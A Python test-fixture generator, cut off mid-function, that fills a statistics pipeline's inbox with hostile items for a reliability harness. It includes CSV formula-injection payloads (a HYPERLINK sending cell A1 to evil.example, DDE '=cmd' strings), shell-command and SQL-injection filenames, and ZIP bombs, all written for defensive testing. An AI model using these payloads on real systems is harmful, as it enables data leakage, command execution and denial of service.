"""Hostile inbox items for the reliability harness (issue #9).

`write_hostile(inbox, n, seed)` fills an inbox with `n` items of every kind a
statistician's folder (or somebody meaning harm) can hold: links to files and
folders outside the inbox or to another country's, pipes and device nodes,
Office lock files and unfinished uploads, hidden files, folders named like
files, files outside a member country's folder, odd and very long names,
duplicate headers, formula cells, truncated and binary files, NUL bytes, mixed
encodings, 10 MB lines, 10,000 columns, a BOM in the middle, ZIP bombs and
broken workbooks, wrong extensions, exact duplicates. The same seed always
writes the same names, bytes and modification times (so the same arrival
order), and the returned `Manifest` says, for each item, whether it is a
regular file the pipeline must read (and answer with a receipt) or something
it must leave in place and list in raw.refused_files, and the verdict when the
standard decides it (a valid control file must be accepted).

The hypothesis strategies at the end generate hostile CSV content (cells,
headers, whole files) for property tests of the ingest layer and of the
validation suites. hypothesis is imported only when they are used.
"""
from __future__ import annotations

import codecs
import contextlib
import gzip
import hashlib
import io
import json
import os
import random
import socket
import stat
import unicodedata
import zipfile
import zlib
from collections import Counter
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Callable, Iterable

HEADER = ["reporting_country", "period", "flow_type", "border_point", "counterpart_country",
          "sex", "age", "nationality", "count", "obs_status"]
HEADER_ES = ["pais_reporte", "periodo", "tipo_flujo", "punto_fronterizo", "pais_contraparte",
             "sexo", "edad", "nacionalidad", "cantidad", "estado_obs"]
REQUIRED = ["reporting_country", "period", "flow_type", "sex", "age", "nationality", "count"]
REQUIRED_CODED = ["reporting_country", "flow_type", "sex", "age", "nationality"]
MEMBERS = ("BLZ CAN CRI DOM SLV GTM HND MEX NIC PAN USA "
           "ARG BOL BRA CHL COL ECU GUY PRY PER SUR URY VEN").split()
# Countries whose folders hold files; two more member codes are kept free for
# a top-level link named like a member folder.
FILE_COUNTRIES = ["PAN", "CRI", "MEX", "GTM", "COL", "ECU", "PER", "HND", "CHL", "ARG", "DOM", "SLV"]
LINK_COUNTRIES = ["SUR", "GUY"]
FLOWS = ["ENTRY", "EXIT", "IRREGULAR_TRANSIT", "ENCOUNTER", "RETURN", "RESIDENCE_PERMIT"]
SEXES = ["F", "M", "_U"]
AGES = ["Y0T4", "Y5T11", "Y12T17", "Y18T59", "Y_GE60"]
NATIONALITIES = ["VEN", "HTI", "CUB", "CHN", "IND", "AFG", "SEN", "CMR", "ESP", "FRA", "USA", "BRA"]
# Country names the code lists resolve (standard §3), for the Spanish/Latin-1 control file.
NATIONALITY_NAMES = {"VEN": "Venezuela", "HTI": "Haití", "CUB": "Cuba", "CHN": "China", "BRA": "Brasil",
                     "ESP": "España", "FRA": "Francia", "IND": "India"}
MTIME_BASE = 1_700_000_000  # 2023-11-14: every item's mtime is this plus its position
LONG_NAME_CHARS = 244


@dataclass(frozen=True)
class Scale:
    """Sizes of the heavy kinds; `Scale.small()` for make test, the default for bench."""

    long_line_bytes: int = 10 * 1024 * 1024
    wide_columns: int = 10_000
    bomb_rows: int = 2_000_000       # empty rows in the ZIP-bomb sheet (~12 MB of XML, ~12 kB zipped)
    bomb_string_bytes: int = 50 * 1024 * 1024  # one shared string this long
    many_rows: int = 20_000

    @classmethod
    def small(cls) -> "Scale":
        return cls(long_line_bytes=10 * 1024 * 1024, wide_columns=10_000, bomb_rows=200_000,
                   bomb_string_bytes=4 * 1024 * 1024, many_rows=5_000)


@dataclass
class Item:
    kind: str
    path: str                      # relative to the inbox, as the file system spells it (str, surrogateescape)
    entry: str                     # file | link | fifo | device | socket | folder
    read: bool | None              # a regular file the pipeline must read; False: must refuse; None: either
    country: str | None = None     # the folder's country, for what is read
    expect: str | None = None      # accepted | rejected | duplicate, when the standard decides it
    sha256: str | None = None
    size: int = 0
    duplicate_of: str | None = None  # path of the original, for an exact copy
    target: str | None = None      # what a link points at
    note: str = ""

    @property
    def name(self) -> str:
        return self.path.rsplit("/", 1)[-1]


@dataclass
class Manifest:
    inbox: Path
    seed: int
    items: list[Item] = field(default_factory=list)
    # Paths outside the inbox that links or hard links point at: they must stay as they are.
    outside: dict[str, str] = field(default_factory=dict)  # path -> sha256 (or "" for a folder)

    def kinds(self) -> Counter:
        return Counter(item.kind for item in self.items)

    @property
    def read(self) -> list[Item]:
        return [item for item in self.items if item.read]

    @property
    def refused(self) -> list[Item]:
        return [item for item in self.items if item.read is False]

    def to_json(self) -> str:
        return json.dumps({"inbox": str(self.inbox), "seed": self.seed, "outside": self.outside,
                           "items": [asdict(item) for item in self.items]},
                          ensure_ascii=True, indent=1, default=str)


# --------------------------------------------------------------------------- content


def valid_rows(rng: random.Random, country: str, n: int | None = None, period: str | None = None,
               flow: str | None = None) -> list[list[str]]:
    """Rows the standard accepts: distinct keys, no totals, months 2019-2024."""
    combos = [(nat, sex, age) for nat in NATIONALITIES for sex in SEXES for age in AGES]
    n = n if n is not None else rng.randint(1, 6)
    period = period or f"{rng.randint(2019, 2024)}-{rng.randint(1, 12):02d}"
    flow = flow or rng.choice(FLOWS)
    rows = []
    for i in range(n):
        if i < len(combos):
            nat, sex, age = combos[rng.randrange(len(combos))] if n <= 8 else combos[i]
        else:  # more rows than combinations: further border points
            nat, sex, age = combos[i % len(combos)]
        border = "_T" if i < len(combos) else f"BP{i // len(combos)}"
        rows.append([country, period, flow, border, "_T", sex, age, nat, str(rng.randint(0, 5000)), "A"])
    # n <= 8 samples with replacement: keep one row per key
    seen, unique = set(), []
    for row in rows:
        key = tuple(row[:8])
        if key not in seen:
            seen.add(key)
            unique.append(row)
    return unique


def quote_cell(cell: str, delimiter: str = ",") -> str:
    if any(ch in cell for ch in (delimiter, '"', "\r", "\n")) or cell != cell.strip(" "):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def csv_text(header: list[str], rows: Iterable[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    lines = [delimiter.join(quote_cell(c, delimiter) for c in header)]
    lines += [delimiter.join(quote_cell(c, delimiter) for c in row) for row in rows]
    return newline.join(lines) + newline


def csv_bytes(header: list[str], rows: Iterable[list[str]], delimiter: str = ",", encoding: str = "utf-8",
              newline: str = "\r\n") -> bytes:
    return csv_text(header, rows, delimiter, newline).encode(encoding)


_ZIP_TIME = (2024, 1, 1, 0, 0, 0)


def _zip(members: list[tuple[str, bytes]], level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data, compresslevel=level)
    return buffer.getvalue()


def _xml_text(text: str) -> str:
    text = "".join(ch for ch in text if ch in "\t\n\r" or ord(ch) >= 0x20)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '{shared}</Types>'
)
_SHARED_TYPE = ('<Override PartName="/xl/sharedStrings.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Datos" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>{shared}</Relationships>'
)
_SHARED_REL = ('<Relationship Id="rId2" '
               'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
               'Target="sharedStrings.xml"/>')
_STYLES_TYPE = ('<Override PartName="/xl/styles.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>')
_STYLES_REL = ('<Relationship Id="rId3" '
               'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>')
_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
_SHEET_TAIL = "</sheetData></worksheet>"


class Shared(int):
    """A cell that refers to the workbook's shared strings by index."""


def sheet_row(number: int, cells: list) -> str:
    """A <row>: a str is an inline string, an int a number, a Shared a shared string,
    (formula, cached value) a formula cell."""
    out = [f'<row r="{number}">']
    for index, cell in enumerate(cells):
        ref = f"{_column_letter(index)}{number}"
        if isinstance(cell, Shared):
            out.append(f'<c r="{ref}" t="s"><v>{int(cell)}</v></c>')
        elif isinstance(cell, tuple):
            formula, cached = cell
            value = "" if cached is None else f"<v>{_xml_text(cached)}</v>"
            out.append(f'<c r="{ref}" t="str"><f>{_xml_text(formula)}</f>{value}</c>')
        elif isinstance(cell, int):
            out.append(f'<c r="{ref}"><v>{cell}</v></c>')
        else:
            out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_xml_text(cell)}</t></is></c>')
    out.append("</row>")
    return "".join(out)


def xlsx_bytes(header: list[str], rows: list[list], *, sheet_xml: bytes | None = None,
               shared_strings: bytes | None = None, styles: bytes | None = None, drop: tuple[str, ...] = (),
               level: int = 6) -> bytes:
    """A minimal workbook (one sheet, inline strings) written byte-for-byte the same every time."""
    def typed(row: list) -> list:
        return [int(c) if type(c) is str and c.isascii() and c.isdigit() and len(c) < 10 else c for c in row]

    if sheet_xml is None:
        body = [sheet_row(1, list(header))] + [sheet_row(i + 2, typed(row)) for i, row in enumerate(rows)]
        sheet_xml = (_SHEET_HEAD + "".join(body) + _SHEET_TAIL).encode()
    shared = shared_strings is not None
    members = [
        ("[Content_Types].xml", _CONTENT_TYPES.format(shared=_SHARED_TYPE if shared else "").encode()),
        ("_rels/.rels", _ROOT_RELS.encode()),
        ("xl/workbook.xml", _WORKBOOK.encode()),
        ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(shared=_SHARED_REL if shared else "").encode()),
        ("xl/worksheets/sheet1.xml", sheet_xml),
    ]
    if shared:
        members.append(("xl/sharedStrings.xml", shared_strings))
    if styles is not None:
        members[0] = (members[0][0], members[0][1].replace(b"</Types>", _STYLES_TYPE.encode() + b"</Types>"))
        members[3] = (members[3][0], members[3][1].replace(b"</Relationships>", _STYLES_REL.encode() + b"</Relationships>"))
        members.append(("xl/styles.xml", styles))
    return _zip([(name, data) for name, data in members if name not in drop], level=level)


# --------------------------------------------------------------------------- names

ODD_NAMES: list[Callable[[str], str]] = [
    lambda t: f"informe mensual {t}.csv",
    lambda t: f"  espacios al borde {t}.csv ",
    lambda t: f"Año_Migración_{t}.csv",
    lambda t: unicodedata.normalize("NFD", f"Año_Migración_nfd_{t}.csv"),
    lambda t: f"quote'single\"double_{t}.csv",
    lambda t: f"a..b_{t}.csv",
    lambda t: f"{t}..csv",
    lambda t: f"line\nbreak_{t}.csv",
    lambda t: f"tab\there\r_{t}.csv",
    lambda t: f"back\\slash_{t}.csv",
    lambda t: f"-rf {t}.csv",
    lambda t: f"$(reboot);`id`|x_{t}.csv",
    lambda t: f"x' or '1'='1_{t}.csv",
    lambda t: f"rtl\u202egpj.exe_{t}.csv",
    lambda t: f"emoji_😀🇵🇦_{t}.csv",
    lambda t: f"\ufeffbom_{t}.csv",
    lambda t: f"zero\u200bwidth_{t}.csv",
    lambda t: f"%s%n%x{{}}_{t}.csv",
    lambda t: f"*?<>|:_{t}.csv",
    lambda t: f"CON_{t}.csv",
    lambda t: f"{t}.CSV",
    lambda t: f"{t}",
    lambda t: f"{t}.partial.csv",
    lambda t: f"{t}.1.accepted.txt",
    lambda t: f"{t}.d1.duplicate.json",
    lambda t: f"{t}.txt",
    lambda t: ("é" * ((250 - len(t.encode()) - 5) // 2)) + f"{t}.csv",  # about 250 bytes of UTF-8
]


def long_name(token: str, chars: int = LONG_NAME_CHARS) -> str:
    stem = f"informe_mensual_de_movimientos_migratorios_{token}_"
    filler = "informe_mensual_de_movimientos_migratorios_"
    while len(stem) < chars - 4:
        stem += filler
    return stem[: chars - 4] + ".csv"


# --------------------------------------------------------------------------- writer


class _Writer:
    def __init__(self, inbox: Path, seed: int, scale: Scale, outside: Path | None) -> None:
        self.inbox = inbox
        self.rng = random.Random(seed)
        self.seed = seed
        self.scale = scale
        self.manifest = Manifest(inbox, seed)
        self.outside_dir = outside or inbox.parent / "outside"
        self.position = 0
        self.token_prefix = f"s{seed}-"
        self.originals: list[Item] = []  # valid files a duplicate may copy
        self.seen: dict[tuple[str, str], str] = {}  # (country, sha256) -> first path with those bytes
        self.device_ok: bool | None = None

    # -- helpers
    def token(self) -> str:
        return f"{self.token_prefix}{self.position:05d}"

    def country(self) -> str:
        return self.rng.choice(FILE_COUNTRIES)

    def _touch(self, path: Path) -> None:
        when = MTIME_BASE + self.position
        with contextlib.suppress(OSError):
            os.utime(path, (when, when), follow_symlinks=False)

    def file(self, kind: str, relative: str, data: bytes, read: bool | None = True, expect: str | None = None,
             note: str = "", duplicate_of: str | None = None) -> Item:
        path = self.inbox / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self._touch(path)
        parts = relative.split("/")
        country = parts[0].upper() if read is not False and len(parts) == 2 else None
        sha = hashlib.sha256(data).hexdigest()
        if country and read and expect and (country, sha) in self.seen:
            # The same bytes came earlier from the same country (an empty file, a fixed header):
            # whatever the kind, this one is a duplicate.
            expect, duplicate_of = "duplicate", self.seen[(country, sha)]
        elif country and read is not False:
            self.seen.setdefault((country, sha), relative)
        item = Item(kind, relative, "file", read, country, expect, sha, len(data), duplicate_of, note)
        self.manifest.items.append(item)
        return item

    def in_country(self, kind: str, name: str, data: bytes, expect: str | None, country: str | None = None,
                   note: str = "", read: bool | None = True) -> Item:
        return self.file(kind, f"{country or self.country()}/{name}", data, read=read, expect=expect, note=note)

    def refused(self, kind: str, relative: str, entry: str, note: str = "") -> Item:
        item = Item(kind, relative, entry, False, note=note)
        self.manifest.items.append(item)
        return item

    def valid_csv(self, country: str, **kw) -> bytes:
        return csv_bytes(HEADER, valid_rows(self.rng, country), **kw)

    def outside_file(self, name: str, data: bytes) -> Path:
        self.outside_dir.mkdir(parents=True, exist_ok=True)
        path = self.outside_dir / name
        path.write_bytes(data)
        self.manifest.outside[str(path)] = hashlib.sha256(data).hexdigest()
        return path

    # -- kinds: read, with a verdict the standard decides
    def k_valid(self) -> None:
        country = self.country()
        item = self.in_country("valid", f"valid_{self.token()}.csv", self.valid_csv(country), "accepted", country)
        self.originals.append(item)

    def k_valid_es_latin1(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country)
        rows = [row[:7] + [NATIONALITY_NAMES.get(row[7], row[7])] + row[8:] for row in rows]
        header = ["país_reporte", "Período", "TIPO FLUJO", "punto_fronterizo", "pais_contraparte", "Sexo",
                  "edad", "Nacionalidad", "cantidad", "estado_obs"]
        encoding = self.rng.choice(["cp1252", "latin-1"])
        self.in_country("valid_es_latin1", f"valid_es_{self.token()}.csv",
                        csv_bytes(header, rows, delimiter=";", encoding=encoding), "accepted", country,
                        note=encoding)

    def k_valid_bom_tab(self) -> None:
        country = self.country()
        data = codecs.BOM_UTF8 + csv_bytes(HEADER, valid_rows(self.rng, country), delimiter="\t", newline="\n")
        self.in_country("valid_bom_tab", f"valid_tab_{self.token()}.tsv", data, "accepted", country)

    def k_valid_pipe(self) -> None:
        country = self.country()
        self.in_country("valid_pipe", f"valid_pipe_{self.token()}.txt",
                        csv_bytes(HEADER, valid_rows(self.rng, country), delimiter="|"), "accepted", country)

    def k_valid_xlsx(self) -> None:
        country = self.country()
        self.in_country("valid_xlsx", f"valid_{self.token()}.xlsx",
                        xlsx_bytes(HEADER, valid_rows(self.rng, country)), "accepted", country)

    def k_many_rows(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country, n=self.scale.many_rows)
        self.in_country("many_rows", f"many_rows_{self.token()}.csv", csv_bytes(HEADER, rows), "accepted", country,
                        note=f"{len(rows)} rows")

    def k_long_name(self) -> None:
        country = self.country()
        self.in_country("long_name", long_name(self.token()), self.valid_csv(country), "accepted", country,
                        note=f"{LONG_NAME_CHARS} characters")

    def k_odd_name(self) -> None:
        country = self.country()
        make = ODD_NAMES[self.rng.randrange(len(ODD_NAMES))]
        self.in_country("odd_name", make(self.token()), self.valid_csv(country), "accepted", country)

    def k_undecodable_name(self) -> None:
        # A name that is not UTF-8 (a Latin-1 upload tool): bytes on disk, surrogates in Python.
        country = self.country()
        name = os.fsdecode(b"informe_caf" + b"\xe9_" + self.token().encode() + b".csv")
        self.in_country("undecodable_name", name, self.valid_csv(country), None, country, read=None,
                        note="name bytes are not UTF-8")

    def _broken(self, kind: str, cell: tuple[str, str], name: str | None = None, note: str = "") -> None:
        country = self.country()
        rows = valid_rows(self.rng, country)
        column, value = cell
        target = self.rng.randrange(len(rows))
        rows[target][HEADER.index(column)] = value
        self.in_country(kind, name or f"{kind}_{self.token()}.csv", csv_bytes(HEADER, rows), "rejected", country,
                        note=note or f"{column}={value!r}")

    def k_empty_flow_type(self) -> None:
        self._broken("empty_flow_type", ("flow_type", ""))

    def k_empty_reporting_country(self) -> None:
        self._broken("empty_reporting_country", ("reporting_country", ""))

    def k_formula_hyperlink(self) -> None:
        self._broken("formula_hyperlink", ("border_point", '=HYPERLINK("http://evil.example/?"&A1,"click")'))

    def k_formula_cmd(self) -> None:
        column = self.rng.choice(["border_point", "nationality", "sex"])
        self._broken("formula_cmd", (column, "=cmd|' /C calc'!A0"))

    def k_formula_at(self) -> None:
        column = self.rng.choice(["border_point", "counterpart_country", "count"])
        self._broken("formula_at", (column, "@SUM(1+1)*cmd|' /C calc'!A0"))

    def k_formula_plus(self) -> None:
        column = self.rng.choice(["border_point", "nationality"])
        self._broken("formula_plus", (column, self.rng.choice(["+1", "-1+1", "+cmd|' /C calc'!A0", "\t=1+1"])))

    def k_formula_plus_count(self) -> None:
        # "+1" as a count: a formula start in a number column; the standard does not decide it.
        country = self.country()
        rows = valid_rows(self.rng, country)
        rows[0][8] = "+1"
        self.in_country("formula_plus_count", f"formula_plus_count_{self.token()}.csv", csv_bytes(HEADER, rows),
                        None, country)

    def k_dup_header_count(self) -> None:
        country = self.country()
        rows = [row + [row[8]] for row in valid_rows(self.rng, country)]
        self.in_country("dup_header_count", f"dup_count_{self.token()}.csv", csv_bytes(HEADER + ["count"], rows),
                        "rejected", country)

    def k_dup_header_cantidad(self) -> None:
        country = self.country()
        rows = [row + [str(int(row[8]) + 1)] for row in valid_rows(self.rng, country)]
        self.in_country("dup_header_cantidad", f"dup_cantidad_{self.token()}.csv",
                        csv_bytes(HEADER + ["Cantidad"], rows), "rejected", country)

    def k_wrong_country_in_file(self) -> None:
        country = self.country()
        other = self.rng.choice([c for c in FILE_COUNTRIES if c != country])
        self.in_country("wrong_country_in_file", f"wrong_country_{self.token()}.csv", self.valid_csv(other),
                        "rejected", country, note=f"rows say {other}")

    def k_copy_other_country(self) -> None:
        # The same bytes as a valid file of another country: not a duplicate (another sender), S03.
        sources = [o for o in self.originals if o.country]
        if not sources:
            return self.k_wrong_country_in_file()
        source = self.rng.choice(sources)
        country = self.rng.choice([c for c in FILE_COUNTRIES if c != source.country])
        data = (self.inbox / source.path).read_bytes()
        self.in_country("copy_other_country", f"copy_of_{self.token()}.csv", data, "rejected", country,
                        note=f"bytes of {source.path}")

    def k_future_period(self) -> None:
        self._broken("future_period", ("period", self.rng.choice(["2999-01", "2024-13", "1999-12", "enero", "2024-00"])))

    def k_truncated(self) -> None:
        country = self.country()
        text = csv_text(HEADER, valid_rows(self.rng, country, n=3))
        # Cut inside the last row's period: that row lacks every required column after it.
        last = text.rstrip("\r\n").rfind("\n") + 1
        cut = last + len(country) + 1 + 5  # "PAN,2024-" ... keep "2024-"
        self.in_country("truncated", f"truncated_{self.token()}.csv", text[:cut].encode(), "rejected", country)

    def k_truncated_xlsx(self) -> None:
        country = self.country()
        data = xlsx_bytes(HEADER, valid_rows(self.rng, country, n=8))
        self.in_country("truncated_xlsx", f"truncated_{self.token()}.xlsx",
                        data[: self.rng.randint(10, len(data) - 30)], "rejected", country)

    def k_random_bytes(self) -> None:
        size = self.rng.choice([1, 7, 512, 4096, 65536])
        data = bytes(self.rng.getrandbits(8) for _ in range(size))
        self.in_country("random_bytes", f"random_{self.token()}.csv", data, "rejected", note=f"{size} bytes")

    def k_nul_bytes(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country)
        nationality = rows[0][7]
        rows[0][7] = nationality[:1] + "\x00" + nationality[1:]
        text = csv_text(HEADER, rows)
        if self.rng.random() < 0.5:  # and a run of NULs at the end, as a crashed writer leaves
            text += "\x00" * 512
        self.in_country("nul_bytes", f"nul_{self.token()}.csv", text.encode(), "rejected", country)

    def k_utf16(self) -> None:
        country = self.country()
        data = codecs.BOM_UTF16_LE + csv_text(HEADER, valid_rows(self.rng, country)).encode("utf-16-le")
        self.in_country("utf16", f"utf16_{self.token()}.csv", data, "rejected", country,
                        note="UTF-16 is not an accepted encoding")

    def k_mixed_encoding(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country, n=4)
        head = csv_text(["país_reporte"] + HEADER[1:], rows[:2]).encode("utf-8")
        middle = f"{country},{rows[0][1]},{rows[0][2]},Darién,_T,_U,Y_GE60,Haití,3,A\r\n".encode("cp1252")
        tail = csv_text(HEADER, rows[2:]).split("\r\n", 1)[1].encode("utf-8")
        self.in_country("mixed_encoding", f"mixed_{self.token()}.csv", head + middle + tail, None, country,
                        note="UTF-8 header and rows, one Windows-1252 row")

    def k_long_line(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country, n=2)
        rows[0][7] = "V" * self.scale.long_line_bytes
        self.in_country("long_line", f"long_line_{self.token()}.csv", csv_bytes(HEADER, rows), "rejected", country,
                        note=f"a {self.scale.long_line_bytes} byte cell")

    def k_wide_extra(self) -> None:
        country = self.country()
        extra = [f"extra_{i}" for i in range(self.scale.wide_columns - len(HEADER))]
        rows = [row + [""] * len(extra) for row in valid_rows(self.rng, country, n=2)]
        self.in_country("wide_extra", f"wide_{self.token()}.csv", csv_bytes(HEADER + extra, rows), None, country,
                        note=f"{self.scale.wide_columns} columns, the standard ten first")

    def k_wide_junk(self) -> None:
        columns = self.scale.wide_columns
        header = [f"col{i}" for i in range(columns)]
        rows = [[str(self.rng.randint(0, 9)) for _ in range(columns)] for _ in range(2)]
        self.in_country("wide_junk", f"wide_junk_{self.token()}.csv", csv_bytes(header, rows), "rejected",
                        note=f"{columns} columns, none standard")

    def k_bom_midfile(self) -> None:
        country = self.country()
        rows = valid_rows(self.rng, country, n=3)
        text = csv_text(HEADER, rows)
        lines = text.split("\r\n")
        lines[2] = "\ufeff" + lines[2]
        self.in_country("bom_midfile", f"bom_mid_{self.token()}.csv", "\r\n".join(lines).encode("utf-8"), None,
                        country, note="a BOM before the second data row")

    def k_zip_bomb_rows(self) -> None:
        rows = "<row/>" * self.scale.bomb_rows
        sheet = (_SHEET_HEAD + sheet_row(1, HEADER) + rows + _SHEET_TAIL).encode()
        data = xlsx_bytes(HEADER, [], sheet_xml=sheet, level=9)
        self.in_country("zip_bomb_rows", f"bomb_rows_{self.token()}.xlsx", data, "rejected",
                        note=f"{len(sheet)} bytes of sheet in {len(data)} bytes")

    def k_zip_bomb_string(self) -> None:
        country = self.country()
        size = self.scale.bomb_string_bytes
        shared = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
                  f'<si><t>{"A" * size}</t></si></sst>').encode()
        row: list = valid_rows(self.rng, country, n=1)[0]
        row[7] = Shared(0)  # the nationality cell is the huge string
        sheet = (_SHEET_HEAD + sheet_row(1, HEADER) + sheet_row(2, row) + _SHEET_TAIL).encode()
        data = xlsx_bytes(HEADER, [], sheet_xml=sheet, shared_strings=shared, level=9)
        self.in_country("zip_bomb_string", f"bomb_string_{self.token()}.xlsx", data, "rejected", country,
                        note=f"a {size} byte shared string in {len(data)} bytes")

    def k_broken_xlsx(self) -> None:
        country = self.country()
        variant = self.rng.choice(["garbage", "no_workbook", "bad_sheet_xml", "empty_sheet", "not_zip_inside"])
        if variant == "garbage":
            data = b"PK\x03\x04" + bytes(self.rng.getrandbits(8) for _ in range(300))
        elif variant == "no_workbook":
            data = xlsx_bytes(HEADER, valid_rows(self.rng, country), drop=("xl/workbook.xml",))
        elif variant == "bad_sheet_xml":
            data = xlsx_bytes(HEADER, [], sheet_xml=(_SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>x'
                                                      ).encode())
        elif variant == "empty_sheet":
            data = xlsx_bytes(HEADER, [], sheet_xml=(_SHEET_HEAD + _SHEET_TAIL).encode())
        else:
            data = b"PK\x03\x04" + b"\x00" * 26 + b"this is not a zip file at all"
        self.in_country("broken_xlsx", f"broken_{variant}_{self.token()}.xlsx", data, "rejected", country,
                        note=variant)

    def k_xlsx_formula(self) -> None:
        country = self.country()
        rows: list[list] = valid_rows(self.rng, country, n=2)
        rows[0][3] = ('HYPERLINK("http://evil.example","_T")', "=HYPERLINK(\"http://evil.example\")")
        self.in_country("xlsx_formula", f"formula_{self.token()}.xlsx", xlsx_bytes(HEADER, rows), "rejected", country,
                        note="a formula whose cached value is itself formula text")

    def k_xlsx_formula_uncached(self) -> None:
        country = self.country()
        rows: list[list] = valid_rows(self.rng, country, n=2)
        rows[1][7] = ("CONCATENATE(\"V\",\"EN\")", None)
        self.in_country("xlsx_formula_uncached", f"formula_nocache_{self.token()}.xlsx", xlsx_bytes(HEADER, rows),
                        "rejected", country, note="a formula with no cached value in a required column")

    def k_xlsx_as_csv(self) -> None:
        country = self.country()
        self.in_country("xlsx_as_csv", f"workbook_{self.token()}.csv", xlsx_bytes(HEADER, valid_rows(self.rng, country)),
                        None, country, note="a valid workbook named .csv")

    def k_csv_as_xlsx(self) -> None:
        country = self.country()
        self.in_country("csv_as_xlsx", f"text_{self.token()}.xlsx", self.valid_csv(country), None, country,
                        note="a valid CSV named .xlsx")

    def k_binary_as_csv(self) -> None:
        country = self.country()
        variant = self.rng.choice(["pdf", "gzip", "png", "elf"])
        if variant == "pdf":
            data = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
        elif variant == "gzip":
            data = gzip.compress(self.valid_csv(country), mtime=0)
        elif variant == "png":
            data = b"\x89PNG\r\n\x1a\n" + zlib.compress(bytes(range(256)) * 4)
        else:
            data = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + bytes(self.rng.getrandbits(8) for _ in range(200))
        self.in_country("binary_as_csv", f"{variant}_{self.token()}.csv", data, "rejected", country, note=variant)

    def k_empty_file(self) -> None:
        data = self.rng.choice([b"", b"\r\n", b"   \n\t\n", codecs.BOM_UTF8])
        self.in_country("empty_file", f"empty_{self.token()}.csv", data, "rejected")

    def k_header_only(self) -> None:
        self.in_country("header_only", f"header_only_{self.token()}.csv", csv_bytes(HEADER, []), "rejected")

    def k_unbalanced_quotes(self) -> None:
        country = self.country()
        text = csv_text(HEADER, valid_rows(self.rng, country, n=3))
        lines = text.split("\r\n")
        lines[1] = lines[1].replace(",_T,", ',"_T,', 1)
        self.in_country("unbalanced_quotes", f"quotes_{self.token()}.csv", "\r\n".join(lines).encode(), "rejected",
                        country)

    def k_cr_only(self) -> None:
        country = self.country()
        self.in_country("cr_only", f"cr_only_{self.token()}.csv", csv_bytes(HEADER, valid_rows(self.rng, country),
                                                                           newline="\r"), None, country,
                        note="old Mac line ends")

    def k_duplicate(self) -> None:
        if not self.originals:
            self.k_valid()
        source = self.rng.choice(self.originals)
        data = (self.inbox / source.path).read_bytes()
        item = self.file("duplicate", f"{source.country}/copy_{self.token()}{os.path.splitext(source.name)[1]}",
                         data, expect="duplicate", duplicate_of=source.path)
        item.note = f"same bytes as {source.path}"

    def k_excel_sep_hint(self) -> None:
        # Excel's "sep=;" first line, which it writes for some locales and reads as a delimiter hint.
        country = self.country()
        data = b"sep=;\r\n" + csv_bytes(HEADER, valid_rows(self.rng, country), delimiter=";")
        self.in_country("excel_sep_hint", f"excel_sep_{self.token()}.csv", data, None, country,
                        note="a sep=; line before the header")

    def k_xlsx_date_period(self) -> None:
        # A statistician types 2024-01 in Excel: the cell becomes a date (serial number, date format).
        country = self.country()
        rows: list[list] = valid_rows(self.rng, country, n=2, period="2024-01")
        for row in rows:
